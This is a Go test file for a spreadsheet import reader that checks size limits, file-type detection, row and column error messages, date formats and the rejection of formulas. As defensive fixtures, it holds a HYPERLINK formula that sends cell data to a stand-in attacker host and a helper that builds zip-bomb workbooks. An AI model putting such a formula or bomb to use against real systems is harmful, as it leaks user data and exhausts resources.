package sheet_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"math/rand"
	"strings"
	"testing"

	"github.com/ferry-migrate/ferry/internal/sheet"
	"github.com/xuri/excelize/v2"
)

// countingReader produces size bytes of CSV-looking text without holding
// them, and counts what was read.
type countingReader struct {
	size, read int64
}

func (r *countingReader) Read(p []byte) (int, error) {
	if r.read >= r.size {
		return 0, io.EOF
	}
	n := min(int64(len(p)), r.size-r.read)
	for i := range n {
		p[i] = "a,b,c\r\n"[(r.read+i)%7]
	}
	r.read += n
	return int(n), nil
}

func TestReadRefusesA50MBFileAgainstA10MBLimitWithoutReadingIt(t *testing.T) {
	const limit = 10 << 20
	src := &countingReader{size: 50 << 20}
	_, err := sheet.Read(src, "huge.csv", limit)
	sheetError(t, err, 0, 0, `"huge.csv" is larger than the 10 MiB limit`)
	if src.read > limit+1 {
		t.Errorf("read %d bytes of a 50 MiB file; at most %d were needed", src.read, limit+1)
	}

	// A file of exactly the limit is read.
	ok := &countingReader{size: 1 << 10}
	if _, err := sheet.Read(ok, "small.csv", 1<<10); err != nil {
		t.Errorf("a file of exactly the limit: %v", err)
	}
}

func TestReadRefusesFilesThatAreNotSpreadsheets(t *testing.T) {
	garbage := make([]byte, 4096)
	rand.New(rand.NewSource(3)).Read(garbage)
	cases := []struct {
		name string
		data []byte
		want string
	}{
		{"empty.csv", nil, `"empty.csv" is empty`},
		{"bom.csv", []byte("\ufeff"), "is empty"},
		{"blank.csv", []byte("\r\n \r\n\t\n"), "is empty"},
		{"garbage.bin", garbage, "is not a spreadsheet (it holds binary data)"},
		{"report.pdf", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"), "is not a spreadsheet (it is a PDF document)"},
		{"photo.png", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10"), "is not a spreadsheet (it holds binary data)"},
		{"old.xls", []byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\x00\x00\x00\x00"), "Excel 97–2003 workbook (.xls) or a password-protected file"},
		{"archive.zip", MustZip(t, "readme.txt", "hello"), "it is a zip archive but not an XLSX workbook"},
		{"letter.docx", MustZip(t, "[Content_Types].xml", "<Types/>", "word/document.xml", "<w:document/>"), "it is a Word document"},
		{"calc.ods", MustZip(t, "mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml", "<office:document-content/>"), "OpenDocument"},
		{"binary.xlsb", MustZip(t, "[Content_Types].xml", "<Types/>", "xl/workbook.bin", "\x00"), "Excel binary workbook (.xlsb)"},
		{"broken.xlsx", []byte("PK\x03\x04 this is not really a zip at all"), "is not a spreadsheet (it is a damaged zip archive)"},
		{"utf16.csv", []byte("n\x00a\x00m\x00e\x00\r\x00\n\x00x\x00\r\x00\n\x00"), "UTF-16 text without a byte-order mark"},
		{"export.xls", []byte("<html><body><table><tr><td>Name</td></tr></table></body></html>"), "it is a web page or an XML file"},
		{"2003.xml", []byte("<?xml version=\"1.0\"?>\n<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"/>"), "save it as .xlsx or CSV"},
		{"odd.csv", []byte("\xFF\xFEn\x00a"), "says it is UTF-16 but has an odd number of bytes"},
		{"surrogate.csv", []byte("\xFF\xFEa\x00\x00\xD8b\x00"), "unpaired surrogate at byte 4"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := sheet.Read(bytes.NewReader(c.data), c.name, 0)
			sheetError(t, err, 0, 0, c.want)
		})
	}
}

func TestReadCSVNamesTheRowAndColumnOfEachProblem(t *testing.T) {
	cases := []struct {
		name     string
		data     string
		row, col int
		want     string
	}{
		{"invalid UTF-8", "Name,City\r\nJ\xfcrgen,K\xf6ln\r\n", 2, 1, `not valid UTF-8 (the file is probably in a legacy encoding such as Windows-1252): save it as "CSV UTF-8"`},
		{"unterminated quote", "Name,Notes\r\na,b\r\nc,\"never closed\r\nd,e\r\n", 3, 2, "closing quote is missing"},
		{"text after a closing quote", "Name,Notes\r\na,\"quoted\" tail\r\n", 2, 2, "text after the closing quote"},
		{"missing header", "\r\nName,City\r\n", 1, 0, "the header row is missing: row 1 is empty"},
		{"header of empty cells", ",,,\r\na,b,c\r\n", 1, 0, "the header row is missing"},
		{"empty column name", "Name,,City\r\n", 1, 2, "this column has no name in the header row"},
		{"blank column name", "Name,  ,City\r\n", 1, 2, "no name"},
		{"duplicate column name", "Name,City,name\r\n", 1, 3, `the column name "name" is already used by column A`},
		{"duplicate up to case and space", "Source field,SOURCE FIELD\r\n", 1, 2, "already used by column A"},
		{"ragged row", "Name,City\r\na,b\r\nc,d,e\r\n", 3, 3, "this row has a value in column C, but the header row names only 2 columns (A to B)"},
		{"ragged far out", "Name\r\na,,,,x\r\n", 2, 5, "value in column E, but the header row names only 1 column (A to A)"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := sheet.Read(strings.NewReader(c.data), "in.csv", 0)
			sheetError(t, err, c.row, c.col, c.want)
		})
	}
}

func TestReadCSVEnforcesSizeLimits(t *testing.T) {
	rows := func(n int) string {
		var b strings.Builder
		b.WriteString("id\r\n")
		for i := range n {
			fmt.Fprintf(&b, "%d\r\n", i)
		}
		return b.String()
	}
	header := func(n int) string {
		cols := make([]string, n)
		for i := range cols {
			cols[i] = fmt.Sprintf("c%d", i)
		}
		return strings.Join(cols, ",") + "\r\n"
	}

	t.Run("100,000 rows are fine", func(t *testing.T) {
		tb := MustRead(t, []byte(rows(100_000)+"\r\n\r\n"), "rows.csv")
		if len(tb.Rows) != 100_000 {
			t.Errorf("%d rows", len(tb.Rows))
		}
	})
	t.Run("100,001 rows are not", func(t *testing.T) {
		_, err := sheet.Read(strings.NewReader(rows(100_001)), "rows.csv", 0)
		sheetError(t, err, 100_002, 0, "more than 100,000 rows below the header")
	})
	t.Run("200 columns are fine", func(t *testing.T) {
		MustRead(t, []byte(header(200)), "cols.csv")
	})
	t.Run("201 columns are not", func(t *testing.T) {
		_, err := sheet.Read(strings.NewReader(header(201)), "cols.csv", 0)
		sheetError(t, err, 1, 201, "more than 200 columns")
	})
	t.Run("a cell of 32,767 characters is fine", func(t *testing.T) {
		tb := MustRead(t, []byte("a\r\n"+strings.Repeat("é", 32_767)), "cell.csv")
		if len([]rune(tb.Rows[0][0])) != 32_767 {
			t.Error("cell changed")
		}
	})
	t.Run("a cell of 32,768 characters is not", func(t *testing.T) {
		_, err := sheet.Read(strings.NewReader("a,b\r\nx,"+strings.Repeat("x", 32_768)), "cell.csv", 0)
		sheetError(t, err, 2, 2, "holds 32,768 characters; at most 32,767")
	})
	t.Run("too many cells", func(t *testing.T) {
		_, err := sheet.Read(strings.NewReader(header(3)+"1\r\n2\r\n3\r\n4\r\n"), "cells.csv", 0, sheet.WithLimits(sheet.Limits{MaxCells: 10}))
		sheetError(t, err, 5, 0, "more than 10 cells (3 columns × rows)")
	})
	t.Run("blank rows count as rows", func(t *testing.T) {
		_, err := sheet.Read(strings.NewReader("a\r\n\r\n\r\n\r\nx\r\n"), "blank.csv", 0, sheet.WithLimits(sheet.Limits{MaxRows: 3}))
		sheetError(t, err, 5, 0, "more than 3 rows")
	})
}

func TestReadRefusesXLSXFormulas(t *testing.T) {
	cases := []struct {
		name     string
		build    func(f *excelize.File)
		row, col int
		want     string
	}{
		{"a formula in the data", func(f *excelize.File) {
			f.SetSheetRow("Sheet1", "A1", &[]any{"Name", "Total"})
			f.SetSheetRow("Sheet1", "A2", &[]any{"a", 1})
			f.SetCellFormula("Sheet1", "B7", "SUM(B2:B6)")
		}, 7, 2, "cell B7 holds the formula =SUM(B2:B6); Ferry never imports formulas"},
		{"a formula in the header", func(f *excelize.File) {
			f.SetCellStr("Sheet1", "A1", "Name")
			f.SetCellFormula("Sheet1", "B1", `"Tot"&"al"`)
		}, 1, 2, `cell B1 holds the formula ="Tot"&"al"`},
		{"a shared formula", func(f *excelize.File) {
			f.SetSheetRow("Sheet1", "A1", &[]any{"n", "double"})
			f.SetSheetRow("Sheet1", "A2", &[]any{1})
			f.SetSheetRow("Sheet1", "A3", &[]any{2})
			ref := "B2:B3"
			shared := excelize.STCellFormulaTypeShared
			f.SetCellFormula("Sheet1", "B2", "A2*2", excelize.FormulaOpts{Type: &shared, Ref: &ref})
		}, 2, 2, "A2*2"},
		{"a formula beyond the header's columns", func(f *excelize.File) {
			f.SetCellStr("Sheet1", "A1", "Name")
			f.SetCellFormula("Sheet1", "Z9", "1+1")
		}, 9, 26, "cell Z9 holds the formula =1+1"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := sheet.Read(bytes.NewReader(MustExcelize(t, c.build)), "formulas.xlsx", 0)
			sheetError(t, err, c.row, c.col, c.want, "paste values")
		})
	}
	t.Run("a formula with a cached value", func(t *testing.T) {
		data := minimalXLSX(t, `<row r="1"><c r="A1" t="inlineStr"><is><t>Link</t></is></c></row><row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil.example/?"&amp;B2,"x")</f><v>x</v></c></row>`)
		_, err := sheet.Read(bytes.NewReader(data), "f.xlsx", 0)
		sheetError(t, err, 2, 1, `cell A2 holds the formula =HYPERLINK("http://evil.example/?"&B2,"x")`)
	})
	t.Run("a formula with no text, dependent on a shared one", func(t *testing.T) {
		data := minimalXLSX(t, `<row r="1"><c r="A1" t="inlineStr"><is><t>n</t></is></c></row><row r="2"><c r="A2"><f t="shared" si="0"/><v>2</v></c></row>`)
		_, err := sheet.Read(bytes.NewReader(data), "f.xlsx", 0)
		sheetError(t, err, 2, 1, "cell A2 holds a formula")
	})
}

func TestReadXLSXNamesTheRowAndColumnOfEachProblem(t *testing.T) {
	cases := []struct {
		name      string
		sheetData string
		row, col  int
		want      string
	}{
		{"missing header", `<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c></row>`, 1, 0, "the header row is missing: row 1 is empty"},
		{"no rows at all", ``, 1, 0, "the header row is missing"},
		{"empty column name", `<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="C1" t="inlineStr"><is><t>c</t></is></c></row>`, 1, 2, "no name"},
		{"duplicate column name", `<row r="1"><c r="A1" t="inlineStr"><is><t>Email</t></is></c><c r="B1" t="inlineStr"><is><t>e-mail</t></is></c><c r="C1" t="inlineStr"><is><t> EMAIL</t></is></c></row>`, 1, 3, `" EMAIL" is already used by column A`},
		{"ragged", `<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="4"><c r="A4"><v>1</v></c><c r="D4"><v>2</v></c></row>`, 4, 4, "value in column D, but the header row names only 1 column"},
		{"too many columns", `<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="GT1" t="inlineStr"><is><t>b</t></is></c></row>`, 1, 202, "more than 200 columns"},
		{"too many rows", `<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="100002"><c r="A100002"><v>1</v></c></row>`, 100_002, 0, "more than 100,000 rows"},
		{"a long cell", `<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>` + strings.Repeat("x", 40_000) + `</t></is></c></row>`, 2, 1, "40,000 characters; at most 32,767"},
		{"rows out of order", `<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="3"/><row r="2"/>`, 0, 0, "damaged XLSX workbook (its rows are out of order"},
		{"a missing shared string", `<row r="1"><c r="A1" t="s"><v>7</v></c></row>`, 0, 0, "cell A1 refers to a text that is not there"},
		{"broken XML", `<row r="1"><c r="A1"><v>1</c></row>`, 0, 0, "xl/worksheets/sheet1.xml is not valid XML"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := sheet.Read(bytes.NewReader(minimalXLSX(t, c.sheetData)), "bad.xlsx", 0)
			sheetError(t, err, c.row, c.col, c.want)
		})
	}
	t.Run("empty styled rows far below the table are ignored", func(t *testing.T) {
		data := minimalXLSX(t, `<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="B1" s="0"/></row><row r="2"><c r="A2"><v>1</v></c><c r="Z2" s="0"/></row><row r="1048576"><c r="XFD1048576" s="0"/></row>`)
		tb := MustRead(t, data, "styled.xlsx")
		if len(tb.Header) != 1 || len(tb.Rows) != 1 || tb.Rows[0][0] != "1" || tb.Sheet != "Data" {
			t.Errorf("got %+v", tb)
		}
	})
}

// bombXLSX is a valid workbook whose worksheet unpacks to size bytes, almost
// all of it white space that deflate squeezes a thousandfold.
func bombXLSX(t *testing.T, size int) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	small := minimalXLSX(t, "")
	zr, err := zip.NewReader(bytes.NewReader(small), int64(len(small)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if f.Name == "xl/worksheets/sheet1.xml" {
			continue
		}
		if err := zw.Copy(f); err != nil {
			t.Fatal(err)
		}
	}
	w, err := zw.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(w, `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>`)
	spaces := bytes.Repeat([]byte(" "), 1<<20)
	for written := 0; written < size; written += len(spaces) {
		w.Write(spaces)
	}
	io.WriteString(w, `</sheetData></worksheet>`)
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestReadRefusesZipBombs(t *testing.T) {
	t.Run("a worksheet that says it unpacks past the default cap", func(t *testing.T) {
		data := bombXLSX(t, 300<<20)
		if len(data) > 1<<20 {
			t.Fatalf("the bomb is %d bytes; it should be small", len(data))
		}
		_, err := sheet.Read(bytes.NewReader(data), "bomb.xlsx", 0)
		sheetError(t, err, 0, 0, `"bomb.xlsx" unpacks to more than 256 MiB`, "zip bomb")
	})
	t.Run("parts that together unpack past a smaller cap", func(t *testing.T) {
		data := bombXLSX(t, 3<<20)
		_, err := sheet.Read(bytes.NewReader(data), "bomb.xlsx", 0, sheet.WithLimits(sheet.Limits{MaxUnzippedBytes: 2 << 20}))
		sheetError(t, err, 0, 0, "unpacks to more than 2 MiB")
		if _, err := sheet.Read(bytes.NewReader(data), "bomb.xlsx", 0, sheet.WithLimits(sheet.Limits{MaxUnzippedBytes: 5 << 20})); err != nil {
			t.Errorf("the same file under a larger cap: %v", err)
		}
	})
	t.Run("a huge sparse sheet", func(t *testing.T) {
		// 200 columns and a value in row 100,001: 20 million cells from a few
		// hundred bytes.
		data := minimalXLSX(t, `<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c>`+columns(200)+`</row><row r="100001"><c r="A100001"><v>1</v></c></row>`)
		_, err := sheet.Read(bytes.NewReader(data), "sparse.xlsx", 0)
		sheetError(t, err, 100_001, 0, "more than 2,000,000 cells")
	})
}

// columns makes header cells B1 … up to n columns in all.
func columns(n int) string {
	var b strings.Builder
	for i := 2; i <= n; i++ {
		ref := sheet.ColumnName(i)
		fmt.Fprintf(&b, `<c r="%s1" t="inlineStr"><is><t>h%d</t></is></c>`, ref, i)
	}
	return b.String()
}

func TestReadXLSXDecodesEscapesAndSkipsPhonetics(t *testing.T) {
	data := minimalXLSX(t, `<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>`+
		`<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="inlineStr"><is><t>tab_x0009_bell? no: _x005F_x0041_</t></is></c></row>`,
		"xl/sharedStrings.xml", `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`+
			`<si><t>名前</t><rPh sb="0" eb="2"><t>ナマエ</t></rPh><phoneticPr fontId="1"/></si>`+
			`<si><r><t>Ri</t></r><r><rPr><b/></rPr><t xml:space="preserve">ch </t></r></si>`+
			`<si><t>emoji _xD83D__xDE42_ and A_x000D__x000A_B</t></si></sst>`)
	tb := MustRead(t, data, "escapes.xlsx")
	want := sheet.Table{Sheet: "Data", Header: []string{"名前", "Rich "}, Rows: [][]string{{"emoji 🙂 and A\r\nB", "tab\tbell? no: _x0041_"}}}
	assertSameTable(t, tb, want)
}

func TestReadXLSXShowsDatesAndTimesByTheirNumberFormat(t *testing.T) {
	formats := []struct{ code, value, want string }{
		{"General", "46024", "46024"},
		{"0.00%", "0.125", "0.125"},
		{"0.00E+00", "12345", "12345"},
		{`#,##0.00 "days"`, "3.5", "3.5"},
		{"dd/mm/yyyy", "46024", "2026-01-02"},
		{"[$-409]mmmm d, yyyy;@", "46024.25", "2026-01-02"},
		{"mmm-yy", "46024", "2026-01-02"},
		{"h:mm AM/PM", "0.5", "12:00:00"},
		{"mm:ss", "0.0006944444444444445", "00:01:00"},
		{"[h]:mm", "1.5", "1.5"},
		{"yyyy-mm-dd hh:mm:ss", "46024.75", "2026-01-02 18:00:00"},
		{`"Week" ww`, "7", "7"},
	}
	var numFmts, xfs, cells strings.Builder
	header := `<row r="1">`
	for i, f := range formats {
		fmt.Fprintf(&numFmts, `<numFmt numFmtId="%d" formatCode="%s"/>`, 164+i, strings.ReplaceAll(f.code, `"`, "&quot;"))
		fmt.Fprintf(&xfs, `<xf numFmtId="%d" fontId="0" fillId="0" borderId="0" applyNumberFormat="1"/>`, 164+i)
		col := sheet.ColumnName(i + 1)
		header += fmt.Sprintf(`<c r="%s1" t="inlineStr"><is><t>c%d</t></is></c>`, col, i)
		fmt.Fprintf(&cells, `<c r="%s2" s="%d"><v>%s</v></c>`, col, i+1, f.value)
	}
	styles := `<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts>` + numFmts.String() +
		`</numFmts><cellStyleXfs count="1"><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/>` + xfs.String() + `</cellXfs></styleSheet>`
	data := minimalXLSX(t, header+`</row><row r="2">`+cells.String()+`</row>`, "xl/styles.xml", styles)
	tb := MustRead(t, data, "formats.xlsx")
	for i, f := range formats {
		if got := tb.Rows[0][i]; got != f.want {
			t.Errorf("%s with format %q: %q, want %q", f.value, f.code, got, f.want)
		}
	}

	t.Run("the 1904 date system", func(t *testing.T) {
		data := MustExcelize(t, func(f *excelize.File) {
			f.SetWorkbookProps(&excelize.WorkbookPropsOptions{Date1904: boolPtr(true)})
			date, _ := f.NewStyle(&excelize.Style{NumFmt: 14})
			f.SetCellStr("Sheet1", "A1", "date")
			f.SetCellValue("Sheet1", "A2", 44562) // 2026-01-02 counted from 1904
			f.SetCellStyle("Sheet1", "A2", "A2", date)
		})
		if got := MustRead(t, data, "1904.xlsx").Rows[0][0]; got != "2026-01-02" {
			t.Errorf("got %q", got)
		}
	})
}

func boolPtr(b bool) *bool { return &b }
